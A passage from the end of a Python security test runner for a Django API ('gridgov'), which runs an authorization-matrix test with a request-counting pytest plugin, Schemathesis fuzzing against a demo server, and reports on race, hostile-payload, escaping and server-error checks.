    """Runs the authorization matrix test with a plugin that counts its requests."""
    with tempfile.TemporaryDirectory() as folder:
        Path(folder, "matrix_counter.py").write_text(
            "from django.test import Client\n"
            "COUNT = [0]\n"
            "_request = Client.request\n"
            "def _counted(self, **request):\n"
            "    COUNT[0] += 1\n"
            "    return _request(self, **request)\n"
            "Client.request = _counted\n"
            "def pytest_sessionfinish(session, exitstatus):\n"
            "    print(f'MATRIX_REQUESTS {COUNT[0]}')\n"
        )
        environment = {
            key: value for key, value in os.environ.items() if not key.startswith(("GRIDGOV_", "DATABASE_URL"))
        }
        environment |= {"PYTHONPATH": folder, "DJANGO_SETTINGS_MODULE": "config.test_settings"}
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "pytest",
                "-p",
                "no:cacheprovider",
                "-p",
                "matrix_counter",
                "-q",
                "-s",
                "gridgov/api/tests/test_authorization_matrix.py",
            ],
            cwd=ROOT,
            env=environment,
            capture_output=True,
            text=True,
            check=False,
        )
    found = re.search(r"MATRIX_REQUESTS (\d+)", done.stdout)
    return (int(found.group(1)) if found else 0), done.returncode == 0


# --- fuzzing ----------------------------------------------------------------------------------


def fuzz(demo: Demo) -> tuple[int, int, bool]:
    """Schemathesis (its own virtualenv, as `make fuzz`) over every operation with a center
    operator's and a grid worker's tokens: the cases it generated, the 5xx among them, passed."""
    st = ROOT / ".venv-fuzz/bin/st"
    if not st.exists():
        print("  Schemathesis is not installed (make .venv-fuzz/.installed): skipped")
        return 0, 0, True
    examples = os.environ.get("ATTACK_FUZZ_EXAMPLES", "50")
    phases = os.environ.get("ATTACK_FUZZ_PHASES", "examples,coverage,fuzzing")
    cases = errors = 0
    passed = True
    for name in ("center01", "grid01"):
        done = subprocess.run(  # noqa: S603 - the project's own Schemathesis against the demo server
            [
                str(st),
                "run",
                f"{demo.base}/api/v1/openapi.json",
                "-H",
                f"Authorization: Bearer {demo.t(name)}",
                "-H",
                f"X-Forwarded-For: 10.0.7.{len(name)}",
                "--checks",
                "not_a_server_error",
                "--phases",
                phases,
                "--max-examples",
                examples,
                "--seed",
                "1",
                "--exclude-name",
                "DELETE /api/v1/auth/token",
                "--workers",
                "2",
                "--no-color",
            ],
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=False,
        )
        found = re.search(r"(\d+) generated", done.stdout)
        generated = int(found.group(1)) if found else 0
        failures = len(re.findall(r"Server error", done.stdout))
        cases += generated
        errors += failures
        passed &= done.returncode == 0
        print(
            f"  {name}: {generated} cases, phases {phases}, {examples} examples; server errors: {failures}", flush=True
        )
    return cases, errors, passed


# --- main ---------------------------------------------------------------------------------------


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--base", required=True)
    parser.add_argument("--server-log", default="")
    parser.add_argument("--skip-matrix", action="store_true")
    parser.add_argument("--skip-fuzz", action="store_true")
    args = parser.parse_args()
    failed = False
    demo = Demo(args.base)

    print("== authorization: every account × every case, order and photo (live)", flush=True)
    checks, wrong = live_authorization(demo)
    print(f"  {checks} checks over {len(ACCOUNTS)} identities, {len(wrong)} wrong", flush=True)
    for line in wrong[:20]:
        print("   ", line)
    failed |= bool(wrong)
    matrix, matrix_ok = (0, True) if args.skip_matrix else matrix_count()
    if not args.skip_matrix:
        print(f"  authorization matrix test: {matrix} checks, {'passed' if matrix_ok else 'FAILED'}", flush=True)
    failed |= not matrix_ok

    print(f"== races: {PARALLEL} parallel requests each, released by a barrier", flush=True)
    races = run_races(demo)
    failed |= not all(race.held for race in races)

    print("== hostile payloads", flush=True)
    payloads = hostile_payloads(demo)
    histogram = ", ".join(f"{k}×{v}" for k, v in sorted(payloads.statuses.items()))
    fives = sum(v for k, v in payloads.statuses.items() if k >= 500)
    print(
        f"  {payloads.sent} payloads [{histogram}]; 5xx: {fives}; stored unescaped: {len(payloads.unescaped)}; "
        f"formulas in exports: {len(payloads.formulas)}"
    )
    print(
        f"  formula-like text in the exports, neutralised: {dict(NEUTRALISED)}; "
        f"pages checked for escaping: {len(payloads.xss_cases) + len(payloads.xss_orders)}"
    )
    for line in payloads.unescaped + payloads.formulas:
        print("   ", line)
    failed |= bool(fives or payloads.unescaped or payloads.formulas or payloads.sent < 110)

    print("== fuzzing: Schemathesis over every operation of the OpenAPI document", flush=True)
    fuzz_cases, fuzz_errors, fuzz_ok = (0, 0, True) if args.skip_fuzz else fuzz(demo)
    failed |= bool(fuzz_errors) or not fuzz_ok

    log_500 = 0
    if args.server_log and Path(args.server_log).exists():
        log_500 = Path(args.server_log).read_text(errors="replace").count('" 500 ')
    print("== totals")
    print(
        f"  requests to the server: {TALLY.requests}; 5xx answered: {len(TALLY.server_errors)}; "
        f"500 in the server log: {log_500}"
    )
    print(
        f"  with the authorization matrix's {matrix} checks (in process) and Schemathesis's {fuzz_cases} cases: "
        f"{TALLY.requests + matrix + fuzz_cases} requests in all"
    )
    for line in TALLY.server_errors[:20]:
        print("   ", line)
    failed |= bool(TALLY.server_errors or log_500)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
